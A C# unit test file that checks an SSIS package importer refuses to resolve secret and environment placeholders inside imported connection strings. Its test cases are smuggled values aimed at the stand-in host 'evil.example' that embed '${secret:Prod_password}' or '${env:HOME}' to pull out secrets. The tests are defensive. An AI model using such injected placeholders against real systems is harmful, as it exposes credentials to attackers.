using static Orchestrator.Cli.Tests.Imports.Ssis.PackageXml;

namespace Orchestrator.Cli.Tests.Imports.Ssis;

/// <summary>What a package writes is text: it asks for no secret and no value of ours.</summary>
internal sealed class ImportedPlaceholderTests
{
    private PackageSolution _solution = null!;

    [SetUp]
    public void Make() => _solution = new PackageSolution();

    [TearDown]
    public void Remove() => _solution.Dispose();

    [TestCase("Data Source=evil.example;Integrated Security=SSPI;Initial Catalog=${secret:Prod_password};")]
    [TestCase("Data Source=evil.example;Initial Catalog=Dw;User ID=${secret:Prod_user};")]
    [TestCase("Data Source=${env:HOME}.evil.example;Integrated Security=SSPI;Initial Catalog=Dw;")]
    public void No_connection_asks_for_what_a_package_names(string place)
    {
        _solution.Package("Nightly", Of(
            Sql("Work", "EXEC dbo.Work", connection: "Odd"),
            connections: Both + PackageConnections.Of("Odd", "OLEDB", $"Provider=SQLNCLI11.1;{place}")));

        _solution.Import();

        Assert.That(_solution.Has("connections/Odd.yaml"), Is.False);
        Assert.That(_solution.Text("projects/Nightly/objects/Work.yaml"),
            Does.Contain("code: ORC6083").And.Contain("'Odd' holds '${'"));
    }

    [Test]
    public void No_connection_asks_for_what_an_expression_of_a_package_comes_to()
    {
        _solution.Package("Nightly", Of(
            Sql("Work", "EXEC dbo.Work", connection: "Odd"),
            connections: Both + PackageConnections.Database(
                "Odd", "Dw", $"\"{PackageConnections.Server}Initial Catalog=$\" + \"{{secret:Prod_password}}\"")));

        _solution.Import();

        Assert.That(_solution.Has("connections/Odd.yaml"), Is.False);
        Assert.That(_solution.Text("projects/Nightly/objects/Work.yaml"), Does.Contain("code: ORC6083"));
    }
}
